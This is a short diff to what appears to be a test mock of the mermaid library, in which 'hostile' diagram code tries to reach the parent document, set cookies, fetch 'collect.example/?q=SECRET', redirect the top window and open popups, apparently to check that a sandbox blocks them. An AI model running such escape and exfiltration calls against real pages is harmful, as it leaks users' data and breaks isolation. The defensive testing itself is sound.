@@ -18,7 +18,9 @@ globalThis.mermaid = {
     if (code.startsWith('hostile')) {
       await attempt('parent', () => parent.document.body)
       await attempt('storage', () => localStorage.setItem('a', 'b'))
-      await attempt('cookie', () => (document.cookie = 'a=b') && document.cookie.length > 0)
+      await attempt('cookie', () => {
+        document.cookie = 'a=b'
+      })
       await attempt('fetch', () => fetch('https://collect.example/?q=SECRET'))
       await attempt('top', () => (top.location.href = 'https://collect.example/'))
       await attempt('popup', () => {
